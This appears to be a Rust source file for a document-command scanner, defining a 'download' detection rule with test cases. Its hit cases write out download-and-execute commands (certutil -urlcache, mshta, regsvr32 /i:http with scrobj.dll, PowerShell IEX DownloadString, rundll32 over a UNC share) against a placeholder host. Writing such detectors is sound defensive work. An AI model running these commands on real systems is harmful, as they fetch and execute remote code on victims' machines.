//! The command fetches something.

use super::features;
use super::{Case, Part, Rule, Subject};

pub(super) const RULE: Rule = Rule {
    id: "download",
    weight: 5,
    part: Part::Modifier,
    since: "0.1.0",
    doc: "A program or a method of the command that downloads names a web address or a server \
          (`certutil -urlcache`, `bitsadmin`, `DownloadString`, `regsvr32 /i:http` …). Adds little: \
          the address itself counts with `remote-address`.",
    hits: &[
        Case::dde("cmd", "/c certutil -urlcache -f http://x/a.exe"),
        Case::dde("mshta", "http://x/a.hta"),
        Case::dde("regsvr32", "/s /n /u /i:http://x/a.sct scrobj.dll"),
        Case::dde(
            "powershell",
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
        ),
        Case::dde("tool", "/c curl http://x/a -o b.exe"),
        Case::dde("cmd", "/c rundll32.exe \\\\10.0.0.1\\3\\1.dll,0"),
    ],
    misses: &[
        Case::dde("cmd", "/c start http://x/"),
        Case::dde("cmd", "/c certutil -hashfile a.bin"),
        Case::dde("BLP", "curl"),
        Case::dde("Excel", "http://x/a.xlsx"),
    ],
    look,
};

fn look(subject: &Subject<'_>) -> Option<String> {
    if !subject.is_dangerous() {
        return None;
    }
    let place = subject.place()?;
    let own = features::downloader(subject.stem());
    let stages = subject.stages().into_iter();
    let mut images = stages.filter_map(|stage| stage.image.as_deref());
    let fetches = own
        .or_else(|| images.find_map(|image| features::downloader(crate::command::stem(image))))
        .map(str::to_owned)
        .or_else(|| subject.first_in_clear(|_, text| features::download(text)))?;
    Some(format!("{fetches} {place}"))
}
